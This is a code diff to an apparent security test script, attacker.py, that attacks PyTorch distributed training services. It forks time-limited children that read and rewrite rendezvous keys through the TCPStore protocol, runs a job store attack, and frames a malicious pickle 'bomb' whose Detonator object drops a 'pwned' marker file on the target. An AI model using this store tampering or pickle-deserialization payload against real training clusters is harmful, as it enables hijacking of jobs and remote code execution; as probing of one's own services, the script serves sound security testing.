@@ -18,14 +18,15 @@ command lines of the job (``ps`` shows the run id). It holds no secret. Two mode
 
 from __future__ import annotations
 
+import contextlib
 import datetime
 import json
 import os
 import pickle
 import select
+import signal
 import socket
 import struct
-import subprocess
 import sys
 import time
 from pathlib import Path
@@ -67,25 +68,60 @@ def _send(host: str, port: int, payload: bytes, wait: float = 1.0) -> bytes:
     return received
 
 
-def _store_attack(host: str, port: int, run_id: str, report: dict) -> list[bytes]:
-    """Read and rewrite the rendezvous keys through torch's store protocol; returns values read.
+#: How long the torch store client may try one port (it retries forever against some services).
+STORE_ATTACK_SECONDS = 20.0
 
-    In a child process with a time limit: torch's store client retries forever against some
-    services that are not a TCPStore.
+
+class _StoreAttack:
+    """Read and rewrite the rendezvous keys of one port through torch's store protocol, in a child.
+
+    The child has a time limit: torch's store client retries forever against some services that are
+    not a TCPStore. It is forked from this process, which has imported torch already (the job store
+    attack needs it), rather than a new interpreter that imports it again for every port (2-3 s of CPU
+    each). :func:`probe` starts one per port at once, so their time limits run side by side.
     """
-    try:
-        child = subprocess.run([sys.executable, __file__, "store", host, str(port), run_id],
-                               capture_output=True, text=True, timeout=20)
-        found = json.loads(child.stdout.strip().splitlines()[-1])
-    except (subprocess.TimeoutExpired, ValueError, IndexError):
-        return []
-    values = [v.encode() for v in found.pop("values")]
-    report.update(found)
-    return values
+
+    def __init__(self, host: str, port: int, run_id: str) -> None:
+        readable, writable = os.pipe()
+        self.deadline = time.monotonic() + STORE_ATTACK_SECONDS
+        self.pid = os.fork()
+        if self.pid == 0:  # the child: attack, write the findings, leave without the parent's clean-up
+            code = 1
+            try:
+                os.close(readable)
+                with os.fdopen(writable, "wb") as out:
+                    out.write(json.dumps(store_client(host, port, run_id)).encode())
+                code = 0
+            finally:
+                os._exit(code)
+        os.close(writable)
+        self.source = os.fdopen(readable, "rb", buffering=0)
+
+    def result(self, report: dict) -> list[bytes]:
+        """Wait for the child (until its time limit); add its findings to ``report``; the values read."""
+        received = b""
+        with self.source:
+            while True:
+                ready, _, _ = select.select([self.source], [], [], max(0.0, self.deadline - time.monotonic()))
+                chunk = self.source.read(65536) if ready else b""
+                if not chunk:
+                    break
+                received += chunk
+        if time.monotonic() >= self.deadline:
+            with contextlib.suppress(ProcessLookupError):
+                os.kill(self.pid, signal.SIGKILL)
+        os.waitpid(self.pid, 0)
+        try:
+            found = json.loads(received)
+        except ValueError:
+            return []
+        values = [v.encode() for v in found.pop("values")]
+        report.update(found)
+        return values
 
 
 def store_client(host: str, port: int, run_id: str) -> dict:
-    """The torch store client's part of the attack (``attacker.py store HOST PORT RUN_ID``)."""
+    """The torch store client's part of the attack (in the child a :class:`_StoreAttack` forks)."""
     import torch.distributed as dist
 
     report: dict = {"values": []}
@@ -138,11 +174,14 @@ def _job_store_attack(host: str, port: int, report: dict) -> None:
 
 
 def probe(targets: list[dict], run_id: str, marker_dir: Path, garbage: bool) -> dict:
+    import torch.distributed  # noqa: F401 - once, before the store attacks fork their children
+
     results = {}
-    for target in targets:
+    store_attacks = [_StoreAttack(target["host"], int(target["port"]), run_id) for target in targets]
+    for target, store_attack in zip(targets, store_attacks):
         host, port = target["host"], int(target["port"])
         report: dict = {"role": target["role"], "torch_store": False, "job_store_joined": False}
-        tokens = _store_attack(host, port, run_id, report)
+        tokens = store_attack.result(report)
         _job_store_attack(host, port, report)
         bomb = pickle.dumps({"m": [Detonator(str(marker_dir / f"pwned-{port}"))], "s": []}, protocol=2)
         framed = struct.pack("<Q", len(bomb)) + bomb
@@ -193,9 +232,6 @@ def idle(host: str, port: int, count: int, ready: Path, release: Path) -> dict:
 
 
 def main(argv: list[str]) -> int:
-    if argv[0] == "store":
-        print(json.dumps(store_client(argv[1], int(argv[2]), argv[3])))
-        return 0
     if argv[0] == "probe":
         targets, run_id, marker_dir, report = json.loads(argv[1]), argv[2], Path(argv[3]), Path(argv[4])
         _write(report, probe(targets, run_id, marker_dir, "--garbage" in argv))
